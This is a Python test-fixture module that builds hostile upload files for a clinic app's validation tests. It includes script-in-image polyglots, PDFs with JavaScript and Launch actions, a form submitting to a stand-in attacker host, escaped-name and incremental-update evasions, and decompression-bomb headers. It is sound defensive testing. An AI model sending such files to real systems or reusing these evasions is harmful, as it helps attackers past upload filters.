"""Good and hostile upload files, built in code with Pillow and pypdf.

`HOSTILE` maps each kind of hostile file to a builder of (file name, bytes); every one must be
refused by every upload field that takes its type. Files the clinic keeps of its own go in this
folder beside this module (see README.md there): tests/clinic/test_hostile_files.py refuses those too.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg(size=(32, 24), *, mode="RGB", color=(200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, "JPEG", quality=95, **save)
    return out.getvalue()


def png(size=(32, 24), *, mode="RGB", color=(30, 120, 200), **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, "PNG", **save)
    return out.getvalue()


def jpeg_with_exif(*, orientation: int | None = None, gps: bool = False, size=(40, 20)) -> bytes:
    """A photo as a phone writes it: left half red, right half blue, with the tags asked for."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if orientation is not None:
        exif[ORIENTATION] = orientation
    if gps:
        exif[GPS_IFD] = {1: "N", 2: (40.0, 44.0, 54.36), 3: "W", 4: (73.0, 59.0, 8.5)}
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _javascript_action() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('hi')"))


def _set_root(key: str, value) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject(key)] = value

    return change


def _set_page(key: str, value) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.pages[0][NameObject(key)] = value

    return change


def _annotation(subtype: str, **entries) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 100)]),
            }
        )
        for key, value in entries.items():
            annotation[NameObject(f"/{key}")] = value
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])

    return change


def _document_javascript(writer: PdfWriter) -> None:
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("run"), _javascript_action()])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def _xfa_form(writer: PdfWriter) -> None:
    acro_form = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")}
    )
    writer.root_object[NameObject("/AcroForm")] = acro_form


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")


def _encrypted(writer: PdfWriter) -> None:
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")


def pdf_with_link(address: str) -> bytes:
    """A letter with a link to a website, as referral letters often have: not active content."""
    return _pdf_with(_annotation("/Link", A=_action("/URI", URI=TextStringObject(address))))


def pdf_opening_at_page_one() -> bytes:
    """An OpenAction that is only a destination (which page, how zoomed), as word processors write."""

    def change(writer: PdfWriter) -> None:
        page = writer.pages[0].indirect_reference
        writer.root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    return _pdf_with(change)


def pdf_incremental_update_with_javascript() -> bytes:
    """A clean PDF, then an update appended after its %%EOF that adds a JavaScript OpenAction."""
    original = pdf()
    writer = PdfWriter(PdfReader(io.BytesIO(original)), incremental=True)
    writer.root_object[NameObject("/OpenAction")] = _javascript_action()
    out = io.BytesIO()
    writer.write(out)
    updated = out.getvalue()
    assert updated.startswith(original) and len(updated) > len(original)
    return updated


def pdf_with_escaped_javascript_name() -> bytes:
    """/JavaScript spelt with #xx escapes, which PDF readers decode."""
    content = _pdf_with(_set_root("/OpenAction", _javascript_action()))
    return content.replace(b"/JavaScript", b"/J#61va#53cript").replace(b"/JS ", b"/J#53 ")


def png_without_iend() -> bytes:
    return png((64, 64))[:-12]


def noise_png(size=(64, 64)) -> bytes:
    """A picture of random pixels, which does not compress to nothing."""
    pixels = random.Random(0).randbytes(size[0] * size[1] * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(out, "PNG")
    return out.getvalue()


def png_cut_in_its_image_data() -> bytes:
    content = noise_png()
    return content[: content.index(b"IDAT") + 200]


def jpeg_cut_in_half() -> bytes:
    content = jpeg((64, 64))
    return content[: len(content) // 2]


def jpeg_with_endless_scans() -> bytes:
    """A progressive JPEG whose last scan is repeated a thousand times: small, slow to decode."""
    content = jpeg((64, 64), progressive=True)
    last_scan = content.rindex(b"\xff\xda")
    return content[:-2] + content[last_scan:-2] * 1000 + b"\xff\xd9"


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares a huge picture: a decompression bomb's header."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 64)

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return (
            struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
        )

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_with_text(text: str, *, compressed: bool = False, international: bool = False) -> bytes:
    info = PngInfo()
    if international:
        info.add_itxt("Comment", text, zip=compressed)
    else:
        info.add_text("Comment", text, zip=compressed)
    return png(pnginfo=info)


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", SCRIPT)
    return out.getvalue()


def animated_png() -> bytes:
    frames = [Image.new("RGB", (16, 16), color) for color in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def multi_picture_jpeg() -> bytes:
    frames = [Image.new("RGB", (16, 16), color) for color in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "MPO", save_all=True, append_images=frames[1:])
    return out.getvalue()


# Each kind of hostile picture, as a card photo or a referral document: (file name, bytes).
HOSTILE_IMAGES: dict[str, Callable[[], tuple[str, bytes]]] = {
    "jpeg_then_html": lambda: ("card.jpg", jpeg() + SCRIPT),
    "jpeg_header_then_html": lambda: ("card.jpg", b"\xff\xd8\xff\xe0" + SCRIPT),
    "png_then_html_after_iend": lambda: ("card.png", png() + SCRIPT),
    "png_then_zip": lambda: ("card.png", png() + zip_archive()),
    "jpeg_then_zip": lambda: ("card.jpg", jpeg() + zip_archive()),
    "jpeg_then_garbage_after_eoi": lambda: ("card.jpg", jpeg() + b"\x01garbage\xff\xfe"),
    "jpeg_comment_with_script": lambda: ("card.jpg", jpeg(comment=SCRIPT)),
    "jpeg_comment_with_pdf": lambda: ("card.jpg", jpeg(comment=pdf())),
    "jpeg_with_endless_scans": lambda: ("card.jpg", jpeg_with_endless_scans()),
    "png_text_chunk_with_script": lambda: ("card.png", png_with_text(SCRIPT.decode())),
    "png_compressed_text_chunk_with_html": lambda: (
        "card.png",
        png_with_text(SCRIPT.decode(), compressed=True),
    ),
    "png_international_text_with_html": lambda: (
        "card.png",
        png_with_text(SCRIPT.decode(), compressed=True, international=True),
    ),
    "png_truncated_before_iend": lambda: ("card.png", png_without_iend()),
    "png_truncated_in_image_data": lambda: ("card.png", png_cut_in_its_image_data()),
    "jpeg_truncated": lambda: ("card.jpg", jpeg_cut_in_half()),
    "png_decompression_bomb": lambda: ("card.png", png_declaring(100_000, 100_000)),
    "png_just_over_the_pixel_limit": lambda: ("card.png", png_declaring(10_000, 5_001)),
    "png_named_jpeg": lambda: ("card.jpg", png()),
    "jpeg_named_png": lambda: ("card.png", jpeg()),
    "jpeg_named_html": lambda: ("card.html", jpeg()),
    "animated_png": lambda: ("card.png", animated_png()),
    "multi_picture_jpeg": lambda: ("card.jpg", multi_picture_jpeg()),
}

# Each kind of hostile PDF, as a referral document.
HOSTILE_PDFS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "pdf_javascript_open_action": lambda: (
        "letter.pdf",
        _pdf_with(_set_root("/OpenAction", _javascript_action())),
    ),
    "pdf_document_javascript": lambda: ("letter.pdf", _pdf_with(_document_javascript)),
    "pdf_page_additional_action": lambda: (
        "letter.pdf",
        _pdf_with(_set_page("/AA", DictionaryObject({NameObject("/O"): _javascript_action()}))),
    ),
    "pdf_launch_open_action": lambda: (
        "letter.pdf",
        _pdf_with(_set_root("/OpenAction", _action("/Launch", F=TextStringObject("cmd.exe")))),
    ),
    "pdf_go_to_open_action": lambda: (
        "letter.pdf",
        _pdf_with(_set_root("/OpenAction", _action("/GoToR", F=TextStringObject("other.pdf")))),
    ),
    "pdf_link_running_javascript": lambda: (
        "letter.pdf",
        _pdf_with(_annotation("/Link", A=_action("/URI", URI=TextStringObject("javascript:alert(1)")))),
    ),
    "pdf_submit_form_action": lambda: (
        "letter.pdf",
        _pdf_with(
            _annotation("/Widget", A=_action("/SubmitForm", F=TextStringObject("https://evil.example/")))
        ),
    ),
    "pdf_embedded_file": lambda: ("letter.pdf", _pdf_with(_attachment)),
    "pdf_file_attachment_annotation": lambda: ("letter.pdf", _pdf_with(_annotation("/FileAttachment"))),
    "pdf_rich_media": lambda: ("letter.pdf", _pdf_with(_annotation("/RichMedia"))),
    "pdf_xfa_form": lambda: ("letter.pdf", _pdf_with(_xfa_form)),
    "pdf_encrypted": lambda: ("letter.pdf", _pdf_with(_encrypted)),
    "pdf_that_does_not_parse": lambda: (
        "letter.pdf",
        b"%PDF-1.7\n1 0 obj <</Type /Cat" + b"\x00" * 40 + b"\n%%EOF\n",
    ),
    "pdf_without_pages": lambda: (
        "letter.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    ),
    "pdf_truncated": lambda: ("letter.pdf", pdf()[:200]),
    "pdf_incremental_update_adding_javascript": lambda: (
        "letter.pdf",
        pdf_incremental_update_with_javascript(),
    ),
    "pdf_with_escaped_javascript_name": lambda: ("letter.pdf", pdf_with_escaped_javascript_name()),
    "pdf_then_html_after_eof": lambda: ("letter.pdf", pdf() + SCRIPT),
    "pdf_then_garbage_after_eof": lambda: ("letter.pdf", pdf() + b"\x8a\x01garbage"),
    "pdf_named_png": lambda: ("scan.png", pdf()),
}

HOSTILE = {**HOSTILE_IMAGES, **HOSTILE_PDFS}
